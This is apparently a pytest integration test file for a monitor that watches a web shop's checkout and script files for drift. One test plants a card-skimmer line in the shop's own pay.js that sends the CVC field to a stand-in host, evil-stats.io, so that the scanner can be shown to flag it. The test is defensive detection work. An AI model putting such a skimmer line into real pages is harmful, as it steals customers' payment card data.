"""The parts of a shop over the wire: the till is read by GET, own script files by content."""

from __future__ import annotations

from collections.abc import Iterator
from pathlib import Path

import pytest

from monitor.policy.drifting.compare import changes
from scanners.drift.files import FILES_MAX
from scanners.drift.folding import unfolded
from tests.integration.content_shop import Reply, Shop, healthy_pages, page, running_shop
from tests.integration.test_drift_scan import look

CARD = (
    '<form action="/betalen" method="post"><input name="cardnumber"><input name="cvc"></form>'
    '<script src="/js/pay.js?v=1"></script>'
)
SCRIPT = "text/javascript"


@pytest.fixture
def shop(tmp_path: Path) -> Iterator[Shop]:
    menu = '<a href="/winkelwagen">Winkelwagen</a> <a href="/inloggen">Inloggen</a>'
    menu += ' <a href="/?add-to-cart=7">In winkelwagen</a>'
    pages = {
        **healthy_pages(),
        "/winkelwagen": page('<h1>Winkelwagen</h1><a href="/afrekenen">Afrekenen</a>'),
        "/afrekenen": page(f"<h1>Afrekenen</h1>{CARD}"),
        "/inloggen": page('<form method="post"><input name="email"><input type="password"></form>'),
        "/js/pay.js?v=1": Reply("var a=1;fetch('/own')", kind=SCRIPT),
    }
    start = pages["/"].body
    assert isinstance(start, str)
    pages["/"] = Reply(start.replace("<main>", f"<main>{menu}"))
    with running_shop(tmp_path, pages) as running:
        yield running


def test_the_till_is_read_and_nothing_is_put_in_a_basket(shop: Shop) -> None:
    facts = look(shop)
    by_role = {(parts.role, parts.takes) for parts in unfolded(facts.parts)}
    assert {("checkout", "payment"), ("checkout", ""), ("account", "personal")} <= by_role
    assert "/afrekenen" in shop.asked
    assert not [path for path in shop.asked if "add-to-cart" in path or path == "/betalen"]
    assert len(shop.asked) <= 20


def test_a_skimmer_in_an_own_file_of_the_till_is_told(shop: Shop) -> None:
    before = look(shop)
    shop.pages["/js/pay.js?v=1"] = Reply(
        "var a=1;new Image().src='https://evil-stats.io/c?'+document.forms[0].cvc.value",
        kind=SCRIPT,
    )
    found = changes(before, look(shop))
    assert ("script_host_added", "high") in [(c.kind, c.weight) for c in found]
    assert look(shop).parts == look(shop).parts


@pytest.mark.parametrize("trouble", [Reply("later", 503), Reply("<html>", 200)])
def test_a_file_that_cannot_be_read_is_no_change(shop: Shop, trouble: Reply) -> None:
    before = look(shop)
    shop.pages["/js/pay.js?v=1"] = trouble
    after = look(shop)
    assert changes(before, after) == ()
    assert changes(after, before) == ()


def test_few_files_are_asked_for_and_none_that_robots_txt_forbids(shop: Shop) -> None:
    many = "".join(f'<script src="/js/part{chr(97 + n)}.js"></script>' for n in range(20))
    shop.pages["/afrekenen"] = page(f"<h1>Afrekenen</h1>{many}{CARD}")
    shop.pages["/robots.txt"] = Reply("User-agent: *\nDisallow: /js/parta", kind="text/plain")
    look(shop)
    scripts = [path for path in shop.asked if path.startswith("/js/")]
    assert len(scripts) == FILES_MAX
    assert "/js/parta.js" not in scripts
